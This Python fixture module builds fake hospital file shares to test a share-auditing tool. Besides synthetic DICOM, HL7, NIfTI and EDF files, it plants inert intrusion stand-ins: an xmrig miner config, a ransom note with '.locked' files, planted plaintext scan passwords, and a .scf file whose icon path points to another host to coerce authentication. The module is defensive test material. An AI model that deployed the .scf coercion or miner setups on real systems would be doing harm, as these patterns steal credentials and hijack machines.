"""Deterministic content for the lab shares: office files, scans, and medical data in many formats.

Every medical file is real enough for a content sniffer: DICOM Part-10 files written by pydicom
('DICM' at offset 128), NIfTI-1 headers, EDF headers, HL7 v2 messages. Patient names are invented.
Some directory and file names deliberately look like they carry a patient's identity
(see labdata.PATIENT_MARKERS): shareaudit must never print them unless asked to.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
from pathlib import Path

from labdata import PASSWORDS
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.fileset import FileSet
from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian, MRImageStorage, generate_uid


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def dicom_dataset(patient: str, patient_id: str, modality: str = "CT", seed: int = 0) -> Dataset:
    """A small but valid DICOM image dataset with file meta information."""
    rng = random.Random(seed)
    sop_class = CTImageStorage if modality == "CT" else MRImageStorage
    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.MediaStorageSOPClassUID = sop_class
    ds.file_meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=[patient, str(seed), "sop"])
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds.SOPClassUID = sop_class
    ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID = generate_uid(entropy_srcs=[patient, "study"])
    ds.SeriesInstanceUID = generate_uid(entropy_srcs=[patient, "series"])
    ds.PatientName = patient
    ds.PatientID = patient_id
    ds.PatientBirthDate = "19570302"
    ds.StudyDate = "20240311"
    ds.StudyTime = "120000"
    ds.Modality = modality
    ds.StudyID = "1"
    ds.SeriesNumber = 1
    ds.InstanceNumber = seed % 1000 + 1
    ds.Rows = 8
    ds.Columns = 8
    ds.BitsAllocated = 16
    ds.BitsStored = 12
    ds.HighBit = 11
    ds.PixelRepresentation = 0
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.PixelData = bytes(rng.randrange(256) for _ in range(8 * 8 * 2))
    return ds


def dicom_bytes(patient: str, patient_id: str, modality: str = "CT", seed: int = 0) -> bytes:
    """A DICOM Part-10 file (128-byte preamble, 'DICM', meta group, dataset)."""
    buf = io.BytesIO()
    dicom_dataset(patient, patient_id, modality, seed).save_as(buf, enforce_file_format=True)
    return buf.getvalue()


def nifti1_bytes(single_file: bool = True, description: str = "") -> bytes:
    """A NIfTI-1 header (348 bytes, magic at 344) followed by a tiny volume."""
    hdr = bytearray(348)
    struct.pack_into("<i", hdr, 0, 348)
    struct.pack_into("<8h", hdr, 40, 3, 4, 4, 4, 1, 1, 1, 1)  # dim
    struct.pack_into("<h", hdr, 70, 4)  # datatype int16
    struct.pack_into("<h", hdr, 72, 16)  # bitpix
    struct.pack_into("<f", hdr, 108, 352.0 if single_file else 0.0)  # vox_offset
    hdr[148 : 148 + len(description[:80])] = description[:80].encode()
    hdr[344:348] = b"n+1\x00" if single_file else b"ni1\x00"
    body = b"\x00" * 4 + bytes(4 * 4 * 4 * 2) if single_file else b""
    return bytes(hdr) + body


def edf_bytes(patient_field: str, plus: bool = True) -> bytes:
    """An EDF(+) header with one signal and one data record."""
    fields = [
        ("0", 8),
        (patient_field, 80),
        ("Startdate 11-MAR-2024 X X X", 80),
        ("11.03.24", 8),
        ("23.45.00", 8),
        ("512", 8),
        ("EDF+C" if plus else "", 44),
        ("1", 8),
        ("1", 8),
        ("1", 4),
    ]
    header = b"".join(value.ljust(width).encode("ascii") for value, width in fields)
    signal = [("EEG Fpz-Cz", 16), ("AgAgCl electrode", 80), ("uV", 8), ("-500", 8), ("500", 8)]
    signal += [("-2048", 8), ("2047", 8), ("HP:0.1Hz", 80), ("4", 8), ("", 32)]
    header += b"".join(value.ljust(width).encode("ascii") for value, width in signal)
    return header + bytes(8)


def hl7_bytes(patient: str, mrn: str, event: str = "A01") -> bytes:
    """An HL7 v2.5 ADT message (segments separated by carriage returns)."""
    segments = [
        f"MSH|^~\\&|RIS|HOSP|PACS|HOSP|20240311120000||ADT^{event}|MSG{mrn}|P|2.5",
        f"PID|1||{mrn}^^^HOSP^MR||{patient}||19570302|M",
        "PV1|1|I|RAD^101^1",
    ]
    return ("\r".join(segments) + "\r").encode("ascii")


def metaimage_header(data_file: str) -> bytes:
    """A MetaImage header; LOCAL means the data follows in the same file (.mha)."""
    lines = ["ObjectType = Image", "NDims = 3", "DimSize = 4 4 4", "ElementType = MET_SHORT"]
    lines.append(f"ElementDataFile = {data_file}")
    return ("\n".join(lines) + "\n").encode("ascii")


def nrrd_bytes() -> bytes:
    """A NRRD0004 header with a raw payload."""
    text = "NRRD0004\ntype: short\ndimension: 3\nsizes: 4 4 4\nencoding: raw\nendian: little\n\n"
    return text.encode("ascii") + bytes(4 * 4 * 4 * 2)


def office_bytes(kind: str, seed: int) -> bytes:
    """Plausible non-medical office content (enough bytes to have a size)."""
    rng = random.Random(seed)
    if kind == "pdf":
        return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + bytes(rng.randrange(256) for _ in range(600))
    if kind in ("docx", "xlsx"):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("[Content_Types].xml", "<Types/>")
            zf.writestr("word/document.xml" if kind == "docx" else "xl/workbook.xml", "<doc/>" * 20)
        return buf.getvalue()
    if kind == "jpg":
        return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(rng.randrange(256) for _ in range(400))
    return f"plain text {seed}\n".encode() * 10


def _office_tree(root: Path, names: list[str], seed: int) -> None:
    for i, name in enumerate(names):
        _write(root / name, office_bytes(name.rsplit(".", 1)[-1].lower(), seed + i))


def dicom_zip_bytes() -> bytes:
    """A patient-CD style ZIP export: DICOMDIR plus DICOM file-set members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("DICOMDIR", dicom_bytes("ZIP^EXPORT", "Z0001", seed=900))
        for i in range(3):
            zf.writestr(
                f"DICOM/PA000000/ST000000/SE000000/IM00000{i}",
                dicom_bytes("ZIP^EXPORT", "Z0001", seed=901 + i),
            )
        zf.writestr("viewer/readme.txt", "Open viewer.exe")
    return buf.getvalue()


def write_fileset(root: Path, patient: str, patient_id: str, count: int, seed: int) -> None:
    """A DICOM CD/DVD export: a real DICOMDIR indexing extensionless file-set members."""
    fs = FileSet()
    for i in range(count):
        fs.add(dicom_dataset(patient, patient_id, "MR", seed + i))
    root.mkdir(parents=True, exist_ok=True)
    fs.write(root)


# --- personality 1: labnas ---------------------------------------------------------------------


def populate_labnas(shares: Path) -> None:
    """Legacy NAS content: guest-readable PHI, a scan drop folder, imaging, a hidden PACS export."""
    public = shares / "public"
    _office_tree(
        public,
        [
            "policies/Infection control policy.docx",
            "policies/Visitor policy.docx",
            "forms/Consent form.pdf",
            "forms/Leave request.xlsx",
            "Welcome.txt",
        ],
        seed=10,
    )
    _write(public / "Exports" / "adt_feed_backup.hl7", hl7_bytes("DOE^JOHN", "448812"))
    _write(public / "patient_list.csv", b"mrn,ward\n448812,RAD\n")
    _write(public / "Teaching" / "case_042" / "IM00001.dcm", dicom_bytes("TEACHING^CASE", "T042", seed=42))
    # Extensionless DICOM: only a content sniffer finds it.
    _write(public / "Teaching" / "case_042" / "IM00002", dicom_bytes("TEACHING^CASE", "T042", seed=43))

    scans = shares / "scans"
    _office_tree(scans, [f"scan_2024-03-{d:02d}_{i:03d}.pdf" for d in (4, 5, 6) for i in range(1, 5)], 100)
    _office_tree(scans, ["photo_0001.jpg", "photo_0002.jpg"], 150)
    _write(scans / "SMITH^MARY_referral.pdf", office_bytes("pdf", 160))

    imaging = shares / "imaging"
    patient_dir = imaging / "DOE_JOHN_1957-03-02" / "ST000001" / "SE000001"
    for i in range(1, 5):
        _write(patient_dir / f"IM{i:06d}.dcm", dicom_bytes("DOE^JOHN", "448812", "CT", seed=200 + i))
    write_fileset(imaging / "CD_EXPORT", "SMITH^MARY", "551234", count=4, seed=300)
    _write(imaging / "Siemens" / "MR.1.1.IMA", dicom_bytes("ROE^RICHARD", "771100", "MR", seed=310))
    _write(imaging / "MRI" / "MUELLER_HANS_19620811_brain.nii.gz", gzip.compress(nifti1_bytes(), mtime=0))
    _write(imaging / "MRI" / "atlas.nii", nifti1_bytes())
    _write(imaging / "MetaImage" / "scan.mhd", metaimage_header("scan.raw"))
    _write(imaging / "MetaImage" / "scan.raw", bytes(128))
    _write(imaging / "MetaImage" / "volume.mha", metaimage_header("LOCAL") + bytes(128))
    _write(imaging / "NRRD" / "segmentation.nrrd", nrrd_bytes())
    _write(imaging / "EEG" / "MRN448812_sleep.edf", edf_bytes("448812 M 02-MAR-1957 DOE_JOHN"))
    for i, event in enumerate(("A01", "A03", "A08")):
        _write(imaging / "HL7" / f"ADT_{event}_{i:04d}.hl7", hl7_bytes("DOE^JOHN", "448812", event))
    _write(imaging / "exports" / "study_export.zip", dicom_zip_bytes())
    _write(imaging / "README.txt", b"Image exchange for the radiology department.\n")

    _office_tree(shares / "hr", ["Salaries 2024.xlsx", "Contracts/contract_template.docx"], 400)

    pacs = shares / "pacs_export"
    for i in range(1, 4):
        _write(pacs / f"export_{i:04d}.dcm", dicom_bytes("ROE^JANE", f"66{i:04d}", "CT", seed=500 + i))
    _write(pacs / "report.hl7", hl7_bytes("ROE^JANE", "660001", "R01"))

    _write(shares / "archive" / "README.txt", b"Old studies are moved here by the PACS.\n")

    drivers = shares / "print_drivers"
    _write(drivers / "x64" / "3" / "hpcu250u.dll", office_bytes("bin", 600))
    _write(drivers / "x64" / "3" / "hpcu250u.inf", b'[Version]\r\nSignature="$Windows NT$"\r\n')
    _write(
        drivers / "scan_to_folder.ini",
        b"[ScanToFolder]\r\nserver=\\\\labnas\\scans\r\nuser=labscan\r\npassword=Scan-Pass1\r\n",
    )
    (shares / "spool").mkdir(parents=True, exist_ok=True)
    plant_intrusion(scans)
    plant_address_book(drivers)


# --- signs of intrusion and keys under the mat (issue 14) --------------------------------------------
# Benign stand-ins: nothing here runs or mines. They are shaped like what attackers leave behind so that
# the crawl's name and head checks (shareaudit/classify/lookout.py) find them, and secret enough that a
# test can grep every output for them.
INERT_WALLET = "LAB-INERT-WALLET-4Bq7Zx9Kd2"  # where a miner config keeps its wallet: must never be printed
COERCION_HOST = "127.0.0.99"  # an unused loopback address: nothing listens there
LOCKED_FILES = 12


def plant_intrusion(scans: Path) -> None:
    """In the guest-writable scans share: a miner config, a dropped script and ELF, a ransom note with an
    encryption sweep, and a .scf whose icon points to another host."""
    config = {
        "autosave": True,
        "cpu": True,
        "donate-level": 1,
        "pools": [
            {"url": f"stratum+tcp://{COERCION_HOST}:3333", "user": INERT_WALLET, "pass": "x", "algo": "rx/0"}
        ],
    }
    _write(scans / "xmrig" / "config.json", json.dumps(config, indent=2).encode())
    _write(
        scans / "cleanup.sh",
        b"#!/bin/sh\n# shareaudit lab stand-in for a dropped script: does nothing\nexit 0\n",
    )
    _write(scans / "kworkerd", Path("/bin/true").read_bytes())  # an ELF binary without an extension
    swept = scans / "2024-03"
    _write(swept / "HOW_TO_RECOVER_FILES.txt", b"Lab stand-in for a ransom note. Nothing was encrypted.\n")
    rng = random.Random(1400)
    for i in range(LOCKED_FILES):
        name = f"scan_2024-03-{4 + i // 4:02d}_{i % 4 + 1:03d}.pdf.locked"
        _write(swept / name, bytes(rng.randrange(256) for _ in range(300)))
    _write(
        scans / "@inventory.scf",
        f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{COERCION_HOST}\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".encode(),
    )


def plant_address_book(drivers: Path) -> None:
    """In print$ (guest-readable): a Ricoh-style address book export with the scan account's password."""
    lines = [
        "# Format Version: 5.1.1.0",
        "# Generated at: 2024-03-11 12:00:00",
        "# Function Name: User Data Preference",
        '"Index in ACLs and Groups","Name","Folder: Protocol","Folder: Path","Folder: User Name","Folder: Password"',
        f'"[1]","[Scanner 2F]","[SMB]","[\\\\labnas\\scans]","[labscan]","[{PASSWORDS["labscan"]}]"',
        '"[2]","[Reception]","[SMB]","[\\\\labnas\\scans]","[]","[]"',
    ]
    _write(drivers / "MFP_2F_addr.csv", ("\r\n".join(lines) + "\r\n").encode())


# --- personality 2: labfs ----------------------------------------------------------------------


def populate_labfs(shares: Path) -> None:
    """Hardened file server content: restricted clinical data and an empty scan inbox."""
    _office_tree(shares / "finance", ["Budget 2025.xlsx", "Invoices/inv_0001.pdf"], 700)
    clinical = shares / "clinical"
    for i in range(1, 4):
        _write(clinical / "CT" / f"CT{i:04d}.dcm", dicom_bytes("GREEN^ALICE", "880001", "CT", seed=710 + i))
    _write(clinical / "HL7" / "lab_results.hl7", hl7_bytes("GREEN^ALICE", "880001", "R01"))
    (shares / "scaninbox").mkdir(parents=True, exist_ok=True)


# --- personality 3: labacl ---------------------------------------------------------------------


def populate_labacl(shares: Path) -> None:
    """NT ACL server content: broad ACEs over department data, records, research volumes."""
    _office_tree(shares / "depts", ["Radiology/rota.xlsx", "Cardiology/minutes.docx", "notice.txt"], 800)
    records = shares / "records"
    _write(records / "HL7" / "ADT_A01_0001.hl7", hl7_bytes("BLACK^TOM", "990001"))
    _write(
        records / "CDA" / "discharge_summary.xml",
        b'<?xml version="1.0"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3"><recordTarget/></ClinicalDocument>\n',
    )
    research = shares / "research"
    _write(research / "cohort" / "sub-01_T1w.nii.gz", gzip.compress(nifti1_bytes(), mtime=0))
    _write(research / "cohort" / "sub-02_T1w.nii.gz", gzip.compress(nifti1_bytes(), mtime=0))
    _write(research / "eeg" / "sub-01_task-rest.edf", edf_bytes("X X X X"))
    _office_tree(shares / "itadmin", ["inventory.xlsx", "passwords_old.txt"], 900)


# --- personality 4: labposix -------------------------------------------------------------------


def populate_labposix(shares: Path) -> None:
    """POSIX-permission NAS content: a couple of small files in each share root (and one level down)."""
    _office_tree(shares / "dropbox", ["scan_0001.pdf", "notes.txt"], 1000)
    wards = shares / "wards"
    _office_tree(wards, ["handover.docx", "Ward 3/rota.xlsx"], 1010)
    _write(wards / "lab_results.hl7", hl7_bytes("WHITE^ANNA", "770001", "R01"))
    _office_tree(shares / "archive", ["index.txt", "2019/annual report.pdf"], 1020)
    _write(shares / "archive" / "2019" / "CT0001.dcm", dicom_bytes("WHITE^ANNA", "770001", "CT", seed=1030))
    _office_tree(shares / "home_labuser", ["cv.docx", "todo.txt"], 1040)


POPULATE = {
    "labnas": populate_labnas,
    "labfs": populate_labfs,
    "labacl": populate_labacl,
    "labposix": populate_labposix,
}


def populate_archive(root: Path, files: int = 20_000, seed: int = 1234) -> dict[str, int]:
    """The benchmark tree: YYYY/MM/PATyyyymmNNN/ directories, about one in five files medical."""
    rng = random.Random(seed)
    counts: dict[str, int] = {}
    dicom = dicom_bytes("ARCHIVE^PATIENT", "A0001", seed=1)
    written = 0
    while written < files:
        year = 2010 + rng.randrange(14)
        month = rng.randrange(1, 13)
        directory = root / f"{year}" / f"{month:02d}" / f"PAT{year}{month:02d}{rng.randrange(1000):03d}"
        for _ in range(rng.randrange(6, 20)):
            if written >= files:
                break
            roll = rng.random()
            if roll < 0.12:
                name, data, kind = f"IM{written:06d}.dcm", dicom, "dicom"
            elif roll < 0.17:
                name, data, kind = f"IM{written:06d}", dicom, "dicom"
            elif roll < 0.22:
                name, data, kind = f"msg{written:06d}.hl7", hl7_bytes("ARCHIVE^PATIENT", "A0001"), "hl7v2"
            elif roll < 0.23:
                name, data, kind = f"vol{written:06d}.nii.gz", gzip.compress(nifti1_bytes(), mtime=0), "nifti"
            else:
                name, data, kind = f"doc{written:06d}.pdf", office_bytes("pdf", written % 50), "other"
            _write(directory / name, data)
            counts[kind] = counts.get(kind, 0) + 1
            written += 1
    return counts
